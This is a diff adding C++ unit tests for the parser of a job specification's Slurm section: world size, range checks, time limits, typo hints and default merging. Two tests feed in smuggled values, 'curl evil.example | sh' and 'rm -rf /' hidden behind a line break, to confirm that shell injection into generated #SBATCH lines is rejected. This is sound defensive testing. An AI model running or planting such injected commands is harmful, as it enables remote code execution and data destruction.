@@ -915,6 +915,219 @@ world_size: 1
 
 // --- diagnostics ---
 
+// --- slurm: ---
+
+constexpr const char* kSlurmHead = R"(name: a
+launcher: command
+command: [x]
+)";
+
+TEST(JobSpec, ParsesSlurmSectionAndComputesWorldSize) {
+  const SpecParseResult result = parse(std::string(kSlurmHead) + R"(slurm:
+  cluster: hpc
+  nodes: 3
+  gpus_per_node: 4
+  partition: gpu
+  account: proj-42
+  qos: high
+  time: 1-12:00:00
+  constraint: a100&ib
+  sbatch_args: [--exclusive, --mem=64G]
+)");
+  ASSERT_TRUE(result.ok()) << formatDiagnostics(result.errors);
+  const JobSpec& spec = *result.spec;
+  ASSERT_TRUE(spec.slurm.has_value());
+  EXPECT_EQ(spec.slurm->line, 4);
+  EXPECT_EQ(spec.slurm->cluster, "hpc");
+  EXPECT_EQ(spec.slurm->nodes, 3);
+  EXPECT_EQ(spec.slurm->ranks_per_node, 0);
+  EXPECT_EQ(spec.slurm->gpus_per_node, 4);
+  EXPECT_EQ(spec.slurm->partition, "gpu");
+  EXPECT_EQ(spec.slurm->account, "proj-42");
+  EXPECT_EQ(spec.slurm->qos, "high");
+  EXPECT_EQ(spec.slurm->time, "1-12:00:00");
+  EXPECT_EQ(spec.slurm->constraint, "a100&ib");
+  EXPECT_EQ(spec.slurm->sbatch_args, (std::vector<std::string>{"--exclusive", "--mem=64G"}));
+  EXPECT_EQ(spec.world_size, 12);  // 3 nodes * 4 GPUs, one rank each
+  EXPECT_EQ(spec.world_size_line, 0);
+  EXPECT_TRUE(spec.placement.empty());
+}
+
+TEST(JobSpec, SlurmRanksPerNodeWinsOverGpusAndDefaultsToOne) {
+  auto worldSize = [](const std::string& slurm) {
+    const SpecParseResult result = parse(std::string(kSlurmHead) + "slurm: " + slurm + "\n");
+    EXPECT_TRUE(result.ok()) << formatDiagnostics(result.errors);
+    return result.ok() ? result.spec->world_size : -1;
+  };
+  EXPECT_EQ(worldSize("{nodes: 2, ranks_per_node: 3, gpus_per_node: 8}"), 6);
+  EXPECT_EQ(worldSize("{nodes: 5}"), 5);
+  EXPECT_EQ(worldSize("{nodes: 100000, ranks_per_node: 1024}"), 102400000);
+}
+
+TEST(JobSpec, SpecWithoutSlurmHasNoSlurmRequest) {
+  const SpecParseResult result = parse(std::string(kSlurmHead) + "world_size: 2\n");
+  ASSERT_TRUE(result.ok()) << formatDiagnostics(result.errors);
+  EXPECT_FALSE(result.spec->slurm.has_value());
+}
+
+TEST(JobSpec, RejectsSlurmWithPlacement) {
+  const std::string text = std::string(kSlurmHead) + R"(placement: [{agent: n1, ranks: 1}]
+slurm: {nodes: 1}
+)";
+  EXPECT_TRUE(hasSingleError(text, 4, "placement", "both slurm and placement are given"));
+  EXPECT_NE(parse(text).errors[0].hint.find("Slurm picks the nodes"), std::string::npos);
+  EXPECT_NE(parse(text).errors[0].hint.find("nodes * ranks_per_node"), std::string::npos);
+}
+
+TEST(JobSpec, RejectsSlurmWithWorldSize) {
+  EXPECT_TRUE(hasSingleError(std::string(kSlurmHead) + R"(slurm: {nodes: 1}
+world_size: 4
+)",
+                             5, "world_size", "both slurm and world_size are given"));
+}
+
+TEST(JobSpec, RejectsSlurmWithoutNodes) {
+  EXPECT_TRUE(hasSingleError(std::string(kSlurmHead) + R"(slurm:
+  partition: gpu
+)",
+                             4, "slurm.nodes", "missing"));
+}
+
+TEST(JobSpec, SlurmWithErrorsDoesNotAlsoAskForPlacement) {
+  const SpecParseResult result = parse(std::string(kSlurmHead) + "slurm: [1, 2]\n");
+  ASSERT_EQ(result.errors.size(), 1u) << formatDiagnostics(result.errors);
+  EXPECT_EQ(result.errors[0].field, "slurm");
+  EXPECT_EQ(result.errors[0].line, 4);
+  EXPECT_NE(result.errors[0].message.find("expected a mapping"), std::string::npos);
+}
+
+TEST(JobSpec, RejectsSlurmNodesOutOfRangeOrNotAPlainInteger) {
+  const std::string head = std::string(kSlurmHead) + "slurm:\n  nodes: ";
+  EXPECT_TRUE(hasSingleError(head + "0\n", 5, "slurm.nodes", "from 1 to 100000, got 0"));
+  EXPECT_TRUE(hasSingleError(head + "100001\n", 5, "slurm.nodes", "got 100001"));
+  EXPECT_TRUE(hasSingleError(head + "\"4\"\n", 5, "slurm.nodes", "the quoted string '4'"));
+  EXPECT_TRUE(hasSingleError(head + "2.5\n", 5, "slurm.nodes", "'2.5' (not a whole number)"));
+  EXPECT_TRUE(hasSingleError(head + "true\n", 5, "slurm.nodes", "'true' (a boolean)"));
+  EXPECT_TRUE(hasSingleError(head + "[1]\n", 5, "slurm.nodes", "got a list"));
+  EXPECT_TRUE(hasSingleError(head + "99999999999999999999999\n", 5, "slurm.nodes", "out of range"));
+}
+
+TEST(JobSpec, RejectsSlurmRanksAndGpusPerNodeOutOfRange) {
+  const std::string head = std::string(kSlurmHead) + "slurm:\n  nodes: 1\n";
+  EXPECT_TRUE(hasSingleError(head + "  ranks_per_node: 0\n", 6, "slurm.ranks_per_node",
+                             "from 1 to 1024, got 0"));
+  EXPECT_TRUE(
+      hasSingleError(head + "  ranks_per_node: 1025\n", 6, "slurm.ranks_per_node", "got 1025"));
+  EXPECT_TRUE(hasSingleError(head + "  gpus_per_node: -1\n", 6, "slurm.gpus_per_node",
+                             "from 0 to 1024, got -1"));
+  EXPECT_TRUE(
+      hasSingleError(head + "  gpus_per_node: 1025\n", 6, "slurm.gpus_per_node", "got 1025"));
+  const SpecParseResult zero_gpus = parse(head + "  gpus_per_node: 0\n");
+  ASSERT_TRUE(zero_gpus.ok()) << formatDiagnostics(zero_gpus.errors);
+  EXPECT_EQ(zero_gpus.spec->world_size, 1);
+}
+
+// Security: partition and the like become `#SBATCH --partition=...` lines of a shell script; a
+// line break would put the rest of the value on a line of its own, which the shell runs.
+TEST(JobSpec, RejectsLineBreakInSlurmPartition) {
+  const std::string text = std::string(kSlurmHead) + R"(slurm:
+  nodes: 1
+  partition: "gpu\ncurl evil.example | sh"
+)";
+  EXPECT_TRUE(hasSingleError(text, 6, "slurm.partition", "control character"));
+  // The diagnostic stays on one line.
+  EXPECT_NE(parse(text).errors[0].message.find("'gpu\\ncurl"), std::string::npos);
+}
+
+TEST(JobSpec, RejectsSpacesAndEmptyValuesInSlurmNames) {
+  const std::string head = std::string(kSlurmHead) + "slurm:\n  nodes: 1\n";
+  EXPECT_TRUE(hasSingleError(head + "  account: \"a b\"\n", 6, "slurm.account", "space"));
+  EXPECT_TRUE(hasSingleError(head + "  qos: \"\"\n", 6, "slurm.qos", "got ''"));
+  EXPECT_TRUE(hasSingleError(head + "  constraint:\n", 6, "slurm.constraint", "got nothing"));
+  EXPECT_TRUE(hasSingleError(head + "  partition: \"gpu\\tx\"\n", 6, "slurm.partition",
+                             "control character"));
+  EXPECT_TRUE(hasSingleError(head + "  cluster: \"\"\n", 6, "slurm.cluster", "got ''"));
+  EXPECT_TRUE(
+      hasSingleError(head + "  cluster: \"a\\nb\"\n", 6, "slurm.cluster", "control characters"));
+}
+
+TEST(JobSpec, AcceptsEverySlurmTimeForm) {
+  for (const char* time : {"90", "90:30", "4:00:00", "2-12", "2-12:30", "2-12:30:15", "UNLIMITED",
+                           "infinite", "\"4:00:00\""}) {
+    const SpecParseResult result =
+        parse(std::string(kSlurmHead) + "slurm: {nodes: 1, time: " + time + "}\n");
+    EXPECT_TRUE(result.ok()) << time << ": " << formatDiagnostics(result.errors);
+  }
+}
+
+TEST(JobSpec, RejectsBadSlurmTime) {
+  for (const char* time : {"4h", "1:2:3:4", "1-2-3", "-5", ":30", "1-", "1:", "1.5", "soon"}) {
+    const std::string text =
+        std::string(kSlurmHead) + "slurm:\n  nodes: 1\n  time: \"" + time + "\"\n";
+    EXPECT_TRUE(hasSingleError(text, 6, "slurm.time", "expected a Slurm time limit")) << time;
+  }
+  const SpecParseResult result =
+      parse(std::string(kSlurmHead) + "slurm:\n  nodes: 1\n  time: 4h\n");
+  ASSERT_EQ(result.errors.size(), 1u);
+  EXPECT_NE(result.errors[0].hint.find("HOURS:MINUTES:SECONDS"), std::string::npos);
+}
+
+TEST(JobSpec, RejectsBadSbatchArgsNamingTheItem) {
+  const std::string head = std::string(kSlurmHead) + "slurm:\n  nodes: 1\n  sbatch_args:\n";
+  EXPECT_TRUE(hasSingleError(head + "    - --exclusive\n    - mem=64G\n", 8, "slurm.sbatch_args[1]",
+                             "starting with '-', got 'mem=64G'"));
+  EXPECT_TRUE(hasSingleError(head + "    - \"--comment=a\\nrm -rf /\"\n", 7, "slurm.sbatch_args[0]",
+                             "control character"));
+  EXPECT_TRUE(hasSingleError(head + "    - [--a]\n", 7, "slurm.sbatch_args[0]", "got a list"));
+  EXPECT_TRUE(hasSingleError(std::string(kSlurmHead) + "slurm:\n  nodes: 1\n"
+                                                       "  sbatch_args: --exclusive\n",
+                             6, "slurm.sbatch_args", "expected a list of sbatch options"));
+}
+
+TEST(JobSpec, RejectsUnknownSlurmKeyWithHint) {
+  const std::string text = std::string(kSlurmHead) + R"(slurm:
+  nodes: 1
+  partiton: gpu
+)";
+  EXPECT_TRUE(hasSingleError(text, 6, "slurm.partiton", "unknown key 'partiton'"));
+  EXPECT_EQ(parse(text).errors[0].hint, "did you mean 'partition'?");
+  const std::string cluster_typo = std::string(kSlurmHead) + "slurm: {nodes: 1, clustr: hpc}\n";
+  EXPECT_TRUE(hasSingleError(cluster_typo, 4, "slurm.clustr", "unknown key"));
+  EXPECT_EQ(parse(cluster_typo).errors[0].hint, "did you mean 'cluster'?");
+}
+
+TEST(JobSpec, RejectsDuplicateSlurmKeys) {
+  EXPECT_TRUE(hasSingleError(std::string(kSlurmHead) + "slurm:\n  nodes: 1\n  nodes: 2\n", 6,
+                             "slurm.nodes", "duplicate key"));
+  EXPECT_TRUE(hasSingleError(std::string(kSlurmHead) + "slurm:\n  nodes: 1\n  cluster: a\n"
+                                                       "  cluster: b\n",
+                             7, "slurm.cluster", "duplicate key"));
+}
+
+TEST(JobSpec, TopLevelSlurmFieldSuggestsTheSlurmSection) {
+  const std::string text = std::string(kSlurmHead) + "world_size: 1\npartition: gpu\n";
+  EXPECT_TRUE(hasSingleError(text, 5, "partition", "unknown key"));
+  EXPECT_EQ(parse(text).errors[0].hint, "did you mean 'slurm'?");
+}
+
+TEST(JobSpec, ReportsEverySlurmErrorInFileOrder) {
+  const SpecParseResult result = parse(std::string(kSlurmHead) + R"(slurm:
+  time: forever
+  nodes: 0
+  qos: "a b"
+)");
+  ASSERT_EQ(result.errors.size(), 3u) << formatDiagnostics(result.errors);
+  EXPECT_EQ(result.errors[0].field, "slurm.time");
+  EXPECT_EQ(result.errors[0].line, 5);
+  EXPECT_EQ(result.errors[0].column, 9);
+  EXPECT_EQ(result.errors[1].field, "slurm.nodes");
+  EXPECT_EQ(result.errors[1].line, 6);
+  EXPECT_EQ(result.errors[2].field, "slurm.qos");
+  EXPECT_EQ(result.errors[2].line, 7);
+}
+
+// --- diagnostics ---
+
 TEST(SpecDiagnostic, ToStringLooksLikeACompilerMessage) {
   SpecDiagnostic d;
   d.file = "job.yaml";
@@ -981,6 +1194,46 @@ TEST(JobSpecNames, ReservedEnvNames) {
   for (const char* name : {"RANKS", "MY_RANK", "NCCL_DEBUG", "PATH", "RINGMASTER"}) {
     EXPECT_FALSE(isReservedEnvName(name)) << name;
   }
+}
+
+TEST(SlurmRequest, WithDefaultsFillsUnsetFieldsAndAppendsSbatchArgs) {
+  slurm::SlurmRequest defaults;
+  defaults.nodes = 8;
+  defaults.gpus_per_node = 4;
+  defaults.partition = "gpu";
+  defaults.time = "4:00:00";
+  defaults.sbatch_args = {"--exclusive"};
+  defaults.line = 20;
+  slurm::SlurmRequest request;
+  request.cluster = "hpc";
+  request.nodes = 2;
+  request.partition = "debug";
+  request.sbatch_args = {"--mem=1G"};
+  request.line = 3;
+  const slurm::SlurmRequest merged = slurm::withDefaults(request, defaults);
+  EXPECT_EQ(merged.cluster, "hpc");
+  EXPECT_EQ(merged.nodes, 2);
+  EXPECT_EQ(merged.gpus_per_node, 4);
+  EXPECT_EQ(merged.ranks_per_node, 0);
+  EXPECT_EQ(merged.partition, "debug");
+  EXPECT_EQ(merged.time, "4:00:00");
+  EXPECT_EQ(merged.account, "");
+  EXPECT_EQ(merged.sbatch_args, (std::vector<std::string>{"--exclusive", "--mem=1G"}));
+  EXPECT_EQ(merged.line, 3);
+  EXPECT_EQ(slurm::ranksPerNode(merged), 4);
+  request.ranks_per_node = 2;
+  EXPECT_EQ(slurm::ranksPerNode(slurm::withDefaults(request, defaults)), 2);
+  EXPECT_EQ(slurm::ranksPerNode(slurm::SlurmRequest{}), 1);
+}
+
+TEST(SlurmRequest, TimeLimitForms) {
+  EXPECT_TRUE(slurm::isSlurmTimeLimit("0"));
+  EXPECT_TRUE(slurm::isSlurmTimeLimit("Unlimited"));
+  EXPECT_TRUE(slurm::isSlurmTimeLimit("7-0"));
+  EXPECT_FALSE(slurm::isSlurmTimeLimit(""));
+  EXPECT_FALSE(slurm::isSlurmTimeLimit("1-2:3:4:5"));
+  EXPECT_FALSE(slurm::isSlurmTimeLimit(" 90"));
+  EXPECT_FALSE(slurm::isSlurmTimeLimit("1--2"));
 }
 
 TEST(JobSpecNames, ClosestMatchFindsTyposButNotUnrelatedWords) {
